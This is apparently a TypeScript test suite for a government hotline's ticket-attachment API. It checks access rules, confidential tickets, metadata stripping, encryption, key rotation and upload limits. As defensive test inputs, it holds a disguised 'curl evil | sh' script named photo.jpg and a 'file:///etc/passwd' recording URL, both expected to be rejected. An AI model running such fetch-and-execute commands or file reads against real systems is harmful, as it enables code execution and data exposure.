// The attachment API's behaviour, run against one store (the embedded filesystem, or S3 on
// SeaweedFS): attach and read back byte for byte, the ticket's access rules, encryption and
// rotation, metadata stripped, every bad input, a cut upload, idempotency, reads logged.
import http from 'node:http';
import type { AttachmentConfig } from '../../attachments/config';
import { stripPhoto } from '../../attachments/image';
import { objectKey } from '../../attachments/object-store';
import { sealedKeyId } from '../../attachments/seal';
import { listAttachmentReads } from '../../ledger/attachment-reads';
import type { LedgerDb } from '../../ledger/db';
import { apiHarness, ApiHarness, intakeBody, replyBody, ticketCalls, Who } from './api';
import { testKeyRing } from './attachments';
import { cameraJpeg, cameraPng, GPS, OWNER, SITE_JPEG } from './images';
import { recordHistory } from './histories';
import { openTestLedger } from './ledger';

const LEAD = 'LJ-JB-HOUSING';
const OTHER = 'LJ-JN-HOUSING';
export const operator: Who = { role: 'operator', sub: 'op-1' };
const dispatcher: Who = { role: 'dispatcher', sub: 'disp-1' };
export const handler: Who = { role: 'handler', unit: LEAD, sub: 'h-1' };
const reviewer: Who = { role: 'reviewer', unit: LEAD, sub: 'rv-1' };
const stranger: Who = { role: 'handler', unit: OTHER, sub: 'h-x' };

export interface AttachmentSuite {
  name: string;
  /** A fresh store for the suite, its limits as given; `close` removes it. */
  open(limits: { maxFileBytes: number; maxTicketBytes: number }): Promise<{ config: AttachmentConfig; close(): Promise<void> }>;
}

/** Every payload of the ticket's history, decoded and joined: what Temporal holds of it. */
async function payloadsOf(api: ApiHarness, id: string): Promise<Buffer> {
  const found: Buffer[] = [];
  const walk = (v: unknown): void => {
    if (v instanceof Uint8Array) found.push(Buffer.from(v));
    else if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') Object.values(v).forEach(walk);
  };
  walk((await api.client.workflow.getHandle(id).fetchHistory()).events);
  return Buffer.concat(found);
}

export function attachmentApiSuite(suite: AttachmentSuite): void {
  describe(`API: attachments (${suite.name})`, () => {
    let api: ApiHarness;
    let store: { config: AttachmentConfig; close(): Promise<void> };
    let ledger: LedgerDb;
    const calls = () => ticketCalls(api);
    beforeAll(async () => {
      store = await suite.open({ maxFileBytes: 256 * 1024, maxTicketBytes: 600 * 1024 });
      ledger = await openTestLedger();
      api = await apiHarness(`attachments-${suite.name}`, { attachments: store.config, ledger });
    });
    afterAll(async () => {
      await api?.close();
      await ledger?.close();
      await store?.close();
    });

    const open = async (citizen: object = { name: '张三', phone: '13812345678' }) => {
      const res = await api
        .http()
        .post('/api/v1/tickets')
        .set('Authorization', await api.bearer(operator))
        .send(intakeBody({ citizen } as never));
      expect(res.status).toBe(201);
      const id: string = res.body.id;
      await calls().act(id, dispatcher, 'dispatch', { unit: LEAD });
      await calls().act(id, handler, 'sign');
      return id;
    };
    const upload = async (id: string, who: Who | undefined, file: Buffer, fields: Record<string, string>, name = 'photo.jpg', key?: string) => {
      let req = api.http().post(`/api/v1/tickets/${id}/attachments`);
      if (who) req = req.set('Authorization', await api.bearer(who));
      if (key) req = req.set('Idempotency-Key', key);
      for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
      return req.attach('file', file, name);
    };
    const download = async (id: string, att: string, who: Who) =>
      api
        .http()
        .get(`/api/v1/tickets/${id}/attachments/${att}`)
        .set('Authorization', await api.bearer(who))
        .buffer(true)
        .parse((res, cb) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => cb(null, Buffer.concat(chunks)));
        });
    const objects = (id: string) => store.config.store.list(`tickets/${id}/`);

    test('a handler attaches a site photo: 201, its metadata on the ticket, the GPS offered, the file read back stripped byte for byte', async () => {
      const id = await open();
      const res = await upload(id, handler, cameraJpeg(), { kind: 'photo', step: 'visit' });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        id: expect.stringMatching(/^att-/),
        kind: 'photo',
        step: 'visit',
        contentType: 'image/jpeg',
        size: SITE_JPEG.length,
        by: 'h-1',
      });
      expect(res.body.gps.latitude).toBeCloseTo(GPS.latitude, 5);
      expect(res.body.gps.longitude).toBeCloseTo(GPS.longitude, 5);

      const got = await download(id, res.body.id, handler);
      expect(got.status).toBe(200);
      expect(got.headers['content-type']).toBe('image/jpeg');
      expect(got.headers['cache-control']).toBe('private, no-store');
      const bytes = got.body as Buffer;
      // Exif gone: the stored photo parsed again has no position and no owner.
      expect(bytes.equals(SITE_JPEG)).toBe(true);
      expect(stripPhoto('image/jpeg', bytes).gps).toBeUndefined();
      expect(bytes.includes(OWNER)).toBe(false);

      // The ticket lists it; the position was offered, never stored.
      const ticket = await calls().get(id, handler);
      expect(ticket.body.attachments).toEqual([expect.objectContaining({ id: res.body.id, sha256: res.body.sha256 })]);
      expect(JSON.stringify(ticket.body)).not.toContain(String(GPS.latitude).slice(0, 6));
      expect(ticket.body.history.at(-1)).toMatchObject({ action: 'attach', actor: { id: 'h-1' } });
      const list = await api
        .http()
        .get(`/api/v1/tickets/${id}/attachments`)
        .set('Authorization', await api.bearer(reviewer));
      expect(list.body.items.map((a: { id: string }) => a.id)).toEqual([res.body.id]);

      // Encrypted at rest: the stored object is not the photo, and names its key.
      const sealed = (await store.config.store.get(objectKey(id, res.body.id)))!;
      expect(sealed.includes(SITE_JPEG.subarray(SITE_JPEG.length - 64))).toBe(false);
      expect(sealedKeyId(sealed)).toBe('k1');

      // The bytes never entered Temporal's history: the update carries the metadata only.
      const history = await payloadsOf(api, id);
      expect(history.includes(res.body.sha256)).toBe(true);
      expect(history.includes(SITE_JPEG.subarray(SITE_JPEG.length - 48))).toBe(false);
      expect(history.includes(SITE_JPEG.subarray(SITE_JPEG.length - 48).toString('base64'))).toBe(false);

      // Every read is logged, newest first.
      const reads = await listAttachmentReads(ledger, id);
      expect(reads).toEqual([expect.objectContaining({ attachmentId: res.body.id, actorId: 'h-1', actorRole: 'handler', actorUnit: LEAD })]);
    });

    test('access follows the ticket: another unit gets the ticket’s own 404, no token 401, the reviewer sees the reply’s evidence', async () => {
      const id = await open();
      const photo = await upload(id, handler, cameraPng(), { kind: 'photo', step: 'reply' });
      expect(photo.status).toBe(201);
      const asTicket = await calls().get(id, stranger);
      expect(asTicket.status).toBe(404);
      const asFile = await download(id, photo.body.id, stranger);
      const asList = await api
        .http()
        .get(`/api/v1/tickets/${id}/attachments`)
        .set('Authorization', await api.bearer(stranger));
      const asUpload = await upload(id, stranger, cameraPng(), { kind: 'photo', step: 'reply' });
      for (const r of [asFile, asList, asUpload]) {
        expect(r.status).toBe(404);
        expect(JSON.parse(r.text ?? (r.body as Buffer).toString())).toEqual(asTicket.body);
      }
      expect((await upload(id, undefined, cameraPng(), { kind: 'photo', step: 'reply' })).status).toBe(401);
      expect((await api.http().get(`/api/v1/tickets/${id}/attachments/${photo.body.id}`)).status).toBe(401);
      // The reviewer reads the reply's evidence beside the reply.
      expect((await download(id, photo.body.id, reviewer)).status).toBe(200);
      expect((await download(id, 'att-00000000000000000000', handler)).status).toBe(404);
      expect(await objects(id)).toHaveLength(1);
    });

    test('a confidential (保密) ticket: the citizen’s intake photo is the hotline’s only; the unit’s own evidence stays theirs', async () => {
      const id = await open({ name: '张三', phone: '13812345678', confidential: true });
      const citizens = await upload(id, operator, cameraPng(), { kind: 'photo', step: 'intake' });
      expect(citizens.status).toBe(201);
      const own = await upload(id, handler, cameraPng(), { kind: 'photo', step: 'visit' });
      expect(own.status).toBe(201);
      expect((await download(id, citizens.body.id, handler)).status).toBe(404);
      expect((await download(id, citizens.body.id, operator)).status).toBe(200);
      expect((await download(id, own.body.id, handler)).status).toBe(200);
      expect((await calls().get(id, handler)).body.attachments.map((a: { id: string }) => a.id)).toEqual([own.body.id]);
      expect((await calls().get(id, operator)).body.attachments).toHaveLength(2);
    });

    test('intake takes the call’s recording as a reference (id or URL, never fetched); a confidential citizen’s is the hotline’s only', async () => {
      const recording = { id: 'CALL-20261203-0042', url: 'https://callcenter.example.gov.cn/recordings/0042.wav' };
      const intake = async (citizen: object, rec: object) =>
        api
          .http()
          .post('/api/v1/tickets')
          .set('Authorization', await api.bearer(operator))
          .send(intakeBody({ citizen, recording: rec } as never));
      const plain = await intake({ name: '张三', phone: '13812345678' }, recording);
      expect(plain.status).toBe(201);
      expect(plain.body.recording).toEqual(recording);
      const hidden = await intake({ name: '李四', phone: '13812345678', confidential: true }, { id: 'CALL-1' });
      await calls().act(hidden.body.id, dispatcher, 'dispatch', { unit: LEAD });
      expect((await calls().get(hidden.body.id, handler)).body.recording).toBeUndefined();
      expect((await calls().get(hidden.body.id, operator)).body.recording).toEqual({ id: 'CALL-1' });
      const bad = await intake({ name: '张三', phone: '13812345678' }, { url: 'file:///etc/passwd' });
      expect(bad.status).toBe(400);
      expect(bad.body.error.details.map((d: { path: string }) => d.path)).toEqual(['recording.url']);
      expect((await intake({ name: '张三', phone: '13812345678' }, {})).status).toBe(400);
    });

    test('网上诉求: the citizen’s photos come with the form, kept as intake photos without their metadata; a script is refused before any ticket', async () => {
      const form = () =>
        api
          .http()
          .post('/citizen/request')
          .field('requestType', 'complaint')
          .field('category', 'PROPERTY_MANAGEMENT')
          .field('area', 'JB/JB-BJ')
          .field('description', '小区门口路灯不亮')
          .field('phone', '13812345678');
      const sent = await form().attach('photos', cameraJpeg(), '路灯.jpg').attach('photos', cameraPng(), '路灯2.png');
      expect(sent.status).toBe(201);
      const id = /工单号 ([\w-]+)/.exec(sent.text)![1]!;
      const t = (await calls().get(id, operator)).body;
      expect(t.attachments).toEqual([
        expect.objectContaining({ kind: 'photo', step: 'intake', contentType: 'image/jpeg', by: 'citizen-web' }),
        expect.objectContaining({ kind: 'photo', step: 'intake', contentType: 'image/png', by: 'citizen-web' }),
      ]);
      const photo = await download(id, t.attachments[0].id, operator);
      expect((photo.body as Buffer).equals(SITE_JPEG)).toBe(true);

      const refused = await form().attach('photos', Buffer.from('#!/bin/sh\necho hi\n'), 'photo.jpg');
      expect(refused.status).toBe(400);
      expect(refused.text).toContain('照片须为 JPG 或 PNG 图片');
      expect(refused.text).toContain('小区门口路灯不亮'); // the form comes back as typed
    });

    test('bad input: 413 per file and per ticket, 415 for a script named .jpg, 400 for a broken image and each missing field, and nothing kept', async () => {
      const id = await open();
      const big = await upload(id, handler, cameraPng(300, 300), { kind: 'photo', step: 'visit' }, 'big.png');
      expect(big.status).toBe(413);
      expect(big.body.error.code).toBe('payload_too_large');
      const script = await upload(id, handler, Buffer.from('#!/bin/sh\ncurl evil | sh\n'), { kind: 'photo', step: 'visit' }, 'photo.jpg');
      expect(script.status).toBe(415);
      expect(script.body.error.message).toContain('不看文件名');
      const broken = await upload(id, handler, cameraJpeg().subarray(0, 900), { kind: 'photo', step: 'visit' });
      expect(broken.status).toBe(400);
      expect(broken.body.error.details).toEqual([expect.objectContaining({ path: 'file' })]);
      const noKind = await upload(id, handler, cameraPng(), { step: 'visit' });
      expect(noKind.status).toBe(400);
      expect(noKind.body.error.details.map((d: { path: string }) => d.path)).toEqual(['kind']);
      const badStep = await upload(id, handler, cameraPng(), { kind: 'photo', step: 'follow-up' });
      expect(badStep.status).toBe(400);
      expect(badStep.body.error.details.map((d: { path: string }) => d.path)).toEqual(['step']);
      const noFile = await api
        .http()
        .post(`/api/v1/tickets/${id}/attachments`)
        .set('Authorization', await api.bearer(handler))
        .field('kind', 'photo')
        .field('step', 'visit');
      expect(noFile.status).toBe(400);
      expect(noFile.body.error.details.map((d: { path: string }) => d.path)).toEqual(['file']);
      const json = await api
        .http()
        .post(`/api/v1/tickets/${id}/attachments`)
        .set('Authorization', await api.bearer(handler))
        .send({ kind: 'photo' });
      expect(json.status).toBe(415);
      expect((await calls().get(id, handler)).body.attachments).toBeUndefined();
      expect(await objects(id)).toEqual([]);

      // Per ticket: 600 KB together; three photos of ~190 KB fit, the fourth does not.
      for (let i = 0; i < 3; i++) expect((await upload(id, handler, cameraPng(250, 250), { kind: 'photo', step: 'visit' })).status).toBe(201);
      const over = await upload(id, handler, cameraPng(250, 250), { kind: 'photo', step: 'visit' });
      expect(over.status).toBe(413);
      expect(over.body.error.message).toContain('本工单附件合计');
      expect(await objects(id)).toHaveLength(3);
    });

    test('an upload cut off midway leaves nothing behind', async () => {
      const id = await open();
      const boundary = 'cut-off-boundary';
      const head = Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nphoto\r\n--${boundary}\r\nContent-Disposition: form-data; name="step"\r\n\r\nvisit\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.png"\r\nContent-Type: image/png\r\n\r\n`,
      );
      const file = cameraPng(100, 100);
      const { port } = api.server.address() as { port: number };
      await new Promise<void>((resolve) => {
        const req = http.request({
          port,
          host: '127.0.0.1',
          method: 'POST',
          path: `/api/v1/tickets/${id}/attachments`,
          headers: {
            'content-type': `multipart/form-data; boundary=${boundary}`,
            'content-length': String(head.length + file.length + 100),
            authorization: '',
          },
        });
        void api.bearer(handler).then((bearer) => {
          req.setHeader('authorization', bearer);
          req.on('error', () => resolve());
          req.on('response', () => resolve());
          req.write(head);
          req.write(file.subarray(0, file.length / 2), () => setTimeout(() => (req.destroy(), resolve()), 200));
        });
      });
      // The server has seen the client go; give it a moment to answer nothing and keep nothing.
      await new Promise((r) => setTimeout(r, 500));
      expect(await objects(id)).toEqual([]);
      expect((await calls().get(id, handler)).body.attachments).toBeUndefined();
    });

    test('one Idempotency-Key: the same file twice is stored once; another file under it is 409', async () => {
      const id = await open();
      const photo = cameraPng(20, 20);
      const first = await upload(id, handler, photo, { kind: 'photo', step: 'visit' }, 'a.png', 'visit-photo-1');
      const again = await upload(id, handler, photo, { kind: 'photo', step: 'visit' }, 'a.png', 'visit-photo-1');
      expect(first.status).toBe(201);
      expect(again.status).toBe(200);
      expect(again.headers['idempotent-replayed']).toBe('true');
      expect(again.body.id).toBe(first.body.id);
      const other = await upload(id, handler, cameraPng(20, 20), { kind: 'photo', step: 'visit' }, 'b.png', 'visit-photo-1');
      expect(other.status).toBe(409);
      expect((await calls().get(id, handler)).body.attachments).toHaveLength(1);
      expect(await objects(id)).toHaveLength(1);
    });

    test('key rotation: new files sealed with the new key, old files still readable', async () => {
      const id = await open();
      const before = await upload(id, handler, cameraPng(), { kind: 'photo', step: 'visit' });
      store.config.keyRing = testKeyRing('k2', 'k1');
      try {
        const after = await upload(id, handler, cameraPng(), { kind: 'photo', step: 'visit' });
        expect(sealedKeyId((await store.config.store.get(objectKey(id, after.body.id)))!)).toBe('k2');
        expect(sealedKeyId((await store.config.store.get(objectKey(id, before.body.id)))!)).toBe('k1');
        for (const att of [before.body.id, after.body.id]) {
          const got = await download(id, att, handler);
          expect(got.status).toBe(200);
          expect(stripPhoto('image/png', got.body as Buffer).bytes.equals(got.body as Buffer)).toBe(true);
        }
      } finally {
        store.config.keyRing = testKeyRing('k1');
      }
    });

    test('a reply drafted with its evidence: the attach action is in the trail and the reply goes on', async () => {
      const id = await open();
      await calls().act(id, handler, 'contact', { stage: 'first', method: 'phone' });
      await calls().act(id, handler, 'contact', { stage: 'final', method: 'phone' });
      expect((await upload(id, handler, cameraJpeg(), { kind: 'photo', step: 'reply' })).status).toBe(201);
      const replied = await calls().act(id, handler, 'reply', replyBody);
      expect(replied.status).toBe('reply_review');
      expect(replied.attachments).toEqual([expect.objectContaining({ step: 'reply' })]);
      // The generic action route does not take it: metadata only ever comes with its file.
      expect((await calls().post(id, handler, 'attach', { id: 'att-00000000000000000000' })).status).toBe(404);
      if (suite.name === 'filesystem') await recordHistory(api.client.workflow.getHandle(id), 'i27-attach-reply-evidence');
    });
  });
}
